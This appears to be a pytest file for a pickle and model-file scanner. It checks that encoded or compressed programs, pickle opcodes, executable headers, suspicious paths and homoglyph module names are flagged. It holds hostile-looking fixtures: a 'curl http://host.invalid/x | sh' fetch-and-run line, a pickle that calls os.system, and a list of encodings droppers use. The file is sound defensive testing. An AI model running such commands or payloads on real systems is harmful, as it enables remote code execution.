"""What the constants of a call look like, however they were written."""

from __future__ import annotations

import base64
import bz2
import gzip
import lzma
import marshal
import random
import zlib
from collections.abc import Callable

import pytest
from hypothesis import given
from hypothesis import strategies as st

from safeload.core.finding import Status
from safeload.rules.arguments import kinds
from tests.generator.written import Called, Name, pickled
from tests.regressions.files import report, status

SOURCE = b"import os; os.system('touch marker')"
WRAPPINGS: dict[str, Callable[[bytes], bytes]] = {
    "base64": base64.b64encode,
    "base64-lines": base64.encodebytes,
    "base64-url": base64.urlsafe_b64encode,
    "base64-bare": lambda data: base64.b64encode(data).rstrip(b"="),
    "base32": base64.b32encode,
    "base85": base64.b85encode,
    "ascii85": base64.a85encode,
    "hex": lambda data: data.hex().encode(),
    "hex-upper": lambda data: data.hex().upper().encode(),
    "hex-colons": lambda data: data.hex(":").encode(),
    "hex-escapes": lambda data: "".join(f"\\x{byte:02x}" for byte in data).encode(),
    "percent": lambda data: "".join(f"%{byte:02x}" for byte in data).encode(),
    "numbers": lambda data: str(list(data)).encode(),
    "zlib": zlib.compress,
    "gzip": gzip.compress,
    "bz2": bz2.compress,
    "xz": lzma.compress,
    "utf-16": lambda data: data.decode().encode("utf-16-le"),
    "utf-16-big": lambda data: data.decode().encode("utf-16-be"),
    "utf-32": lambda data: data.decode().encode("utf-32-le"),
}
IN_TWO = ("zlib", "gzip", "bz2", "xz", "base64", "hex", "utf-16")


@pytest.mark.parametrize("wrap", WRAPPINGS)
def test_an_encoded_program_is_seen(wrap: str) -> None:
    """In each encoding by itself, as bytes, and as text where it is text."""
    data = WRAPPINGS[wrap](SOURCE)
    assert {"encoded", "code"} <= set(kinds(data))
    assert {"encoded", "code"} <= set(kinds(data.decode("latin-1")))


@pytest.mark.parametrize("outer", ["base64", "hex", "base85", "base64-lines"])
@pytest.mark.parametrize("inner", IN_TWO)
def test_encodings_within_encodings_are_seen(inner: str, outer: str) -> None:
    """Compressed and then written as text, as droppers do."""
    assert "code" in set(kinds(WRAPPINGS[outer](WRAPPINGS[inner](SOURCE))))


@pytest.mark.parametrize(
    ("constant", "kind"),
    [
        (b"\x80\x04cos\nsystem\n.", "pickle"),
        (base64.b64encode(b"\x80\x04cos\nsystem\n" * 4 + b"."), "pickle"),
        (marshal.dumps(compile("x = 1", "", "exec")), "code"),
        (zlib.compress(marshal.dumps(compile("x = 1", "", "exec"))), "code"),
        (b"\x7fELF\x02\x01", "program"),
        (b"MZ\x90\0\x03", "program"),
        (b"#!/bin/sh\n", "program"),
        (b"\xff" * 40 + b"curl http://host.invalid/x | sh" + bytes(40), "address"),
        ("https://host.invalid/x", "address"),
        ("/etc/passwd", "path"),
        ("../../x", "path"),
    ],
)
def test_what_a_constant_is(constant: str | bytes, kind: str) -> None:
    """Bytes by their beginning, text by its words."""
    assert kind in set(kinds(constant))


@pytest.mark.parametrize(
    "constant",
    ["linear", "cuda:0", "relu", "gpt2-medium", "a sentence about python and os.", "torch.float32", "2026-01-01", ""],
)
def test_ordinary_arguments_are_nothing(constant: str) -> None:
    """What constructors of real libraries are given has no kind at all."""
    assert set(kinds(constant)) == set()


def test_random_bytes_are_rarely_anything() -> None:
    """Weights and hashes in an argument are not taken for commands: among a thousand none is loud."""
    numbers = random.Random(7)
    for _ in range(500):
        data = numbers.randbytes(4096)
        assert not {"command", "code", "program"} & set(kinds(data))
        assert not {"command", "code", "program"} & set(kinds(data[:64].hex()))


@given(st.one_of(st.binary(max_size=400), st.text(max_size=400)))
def test_any_constant_is_looked_at_without_error(constant: str | bytes) -> None:
    """Total: whatever the constant, there is an answer."""
    assert isinstance(set(kinds(constant)), set)


def test_packed_constants_stay_bounded() -> None:
    """A megabyte of zeros that was packed again and again is opened to a few kilobytes, and no further."""
    data = bytes(1 << 20)
    for _ in range(6):
        data = zlib.compress(data)
    assert set(kinds(data)) == set()


@pytest.mark.parametrize("wrap", [*IN_TWO, "base85"])
def test_an_unknown_class_with_an_encoded_program_is_dangerous(wrap: str) -> None:
    """For callables that nobody knows, the arguments decide how loud a finding is."""
    call = Called(Name("nobody.knows", "Runner"), WRAPPINGS[wrap](SOURCE))
    assert status(pickled(call)) is Status.DANGEROUS
    assert status(pickled(Called(Name("nobody.knows", "Runner"), "linear"))) is Status.UNVERIFIED


LOOKING_ALIKE = (
    "\u043es",
    "\uff4f\uff53",
    "subpro\u0441ess",
    "b\u03c5iltins",
    "\uff50ip",
    "t\u043erch",
    "p\u0430ndas",
    "joblib.numpy_pi\u0441kle",
    "cProf\u0456le",
    "tens\u043erflow.io",
)


@pytest.mark.parametrize("module", LOOKING_ALIKE)
def test_a_module_that_only_looks_like_another_is_dangerous(module: str) -> None:
    """Cyrillic, Greek and full-width letters make names that a person takes for those of known modules."""
    assert status(pickled([Name(module, "Thing")])) is Status.DANGEROUS
    russian = Name("\u043c\u043e\u0434\u0435\u043b\u044c", "\u0421\u043b\u043e\u0439")
    assert status(pickled([russian])) is Status.UNVERIFIED


@pytest.mark.parametrize("module", ["t\u043erch\0.\x1b[31m", "\u043es.\u202epath", "\uff4f\uff53\n"])
def test_hostile_names_of_look_alikes_are_escaped(module: str) -> None:
    """Found by fuzzing: what such a name imitates is foreign text as well."""
    assert all(finding.message.isprintable() for finding in report(pickled([Name(module, "Thing")])).findings)
